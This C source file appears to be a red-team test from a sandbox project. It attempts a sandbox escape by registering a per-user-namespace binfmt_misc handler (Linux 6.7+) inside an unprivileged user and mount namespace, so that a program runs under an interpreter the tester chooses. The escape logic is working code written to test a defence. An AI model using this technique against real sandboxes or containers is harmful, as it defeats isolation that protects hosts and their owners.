/* root_binfmt.c: a binfmt_misc handler of the tree's own for a program with a table (issue 11,
 * review 14).
 *
 * Red team 24 kept the tree's loader out of an exec into another table: an exec by a task
 * whose root or mounts are not the tracer's is refused.  But the kernel has another door to
 * run code before a program: binfmt_misc, whose handlers come before ELF and #! -- and since
 * Linux 6.7 each user namespace may have its own (a binfmt_misc mounted in a mount namespace
 * that namespace owns; no privilege needed).  Its handler's interpreter is then what runs,
 * with the program as its argument -- the tree's code, with the program's table.
 *
 *   root_binfmt host INTERP WORK PROGRAM
 *        unshare a user namespace (its root mapped to the caller's uid), its mount namespace
 *        still the tracer's; a child unshares a mount namespace of its own, mounts
 *        binfmt_misc on WORK there and registers ":r14:E::tbl::INTERP:F" (a file named
 *        *.tbl is run by INTERP, opened now); the parent -- in the tracer's view -- execs
 *        PROGRAM (named *.tbl, with a table).  ESCAPED (said by INTERP, root_loader.c) when
 *        it read the secret.
 *   root_binfmt own INTERP WORK PROGRAM
 *        the same, the exec made by the child itself in its own mount namespace, binfmt_misc
 *        unmounted again (its handlers live on while a descriptor holds it): the mount
 *        namespace then lists the tracer's very mounts.
 */
#include "attack.h"

#include <sched.h>
#include <sys/mount.h>
#include <sys/prctl.h>

static void must_write(const char *path, const char *text) {
    int err = write_file(path, text);
    if (err < 0) skipped("%s: %s", path, ename(-err));
}

static void own_user(void) {
    uid_t uid = getuid();
    gid_t gid = getgid();
    if (unshare(CLONE_NEWUSER) < 0) skipped("unshare(CLONE_NEWUSER): %s", ename(errno));
    char map[64];
    must_write("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %u 1", (unsigned)uid);
    must_write("/proc/self/uid_map", map);
    snprintf(map, sizeof map, "0 %u 1", (unsigned)gid);
    must_write("/proc/self/gid_map", map);
}

/* In a mount namespace of its own: binfmt_misc on WORK, the handler registered; the
 * returned descriptor holds the instance (its handlers) when WORK is unmounted again. */
static int handler(const char *interp, const char *work, int unmount) {
    if (unshare(CLONE_NEWNS) < 0) skipped("unshare(CLONE_NEWNS): %s", ename(errno));
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
        skipped("private mounts: %s", ename(errno));
    if (mount("r14", work, "binfmt_misc", 0, NULL) < 0) {
        if (errno == EPERM && tracer_pid() > 0)  /* (red team 67) */
            blocked("mount of binfmt_misc refused: EPERM");
        skipped("binfmt_misc in a user namespace: %s", ename(errno));
    }
    char path[4200], rule[4400];
    snprintf(path, sizeof path, "%s/register", work);
    snprintf(rule, sizeof rule, ":r14:E::tbl::%s:F", interp);
    int err = write_file(path, rule);
    if (err < 0) skipped("register: %s", ename(-err));
    int held = open(work, O_RDONLY | O_DIRECTORY);
    if (held < 0) skipped("open of binfmt_misc: %s", ename(errno));
    if (unmount && umount2(work, MNT_DETACH) < 0) skipped("umount: %s", ename(errno));
    return held;
}

static void run(const char *program) {
    char *argv[] = {(char *)program, NULL};
    execv(program, argv);
    blocked("exec of %s refused: %s", program, ename(errno));
}

int main(int argc, char **argv) {
    if (argc != 5 || (strcmp(argv[1], "host") != 0 && strcmp(argv[1], "own") != 0))
        usage("root_binfmt host|own INTERP WORK PROGRAM");
    own_user();
    if (strcmp(argv[1], "own") == 0) {
        handler(argv[2], argv[3], 1);
        run(argv[4]);
    }
    int ready[2];
    if (pipe(ready) < 0) blocked("pipe: %s", ename(errno));
    pid_t child = fork();
    if (child < 0) blocked("fork: %s", ename(errno));
    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);  /* (gone with the program the parent becomes) */
        handler(argv[2], argv[3], 0);
        if (write(ready[1], "r", 1) != 1) _exit(1);
        pause();
        _exit(0);
    }
    close(ready[1]);
    char got;
    if (read(ready[0], &got, 1) != 1) {
        int status;
        waitpid(child, &status, 0);
        if (tracer_pid() > 0) blocked("the handler was not registered");
        skipped("the handler was not registered");
    }
    run(argv[4]);
}
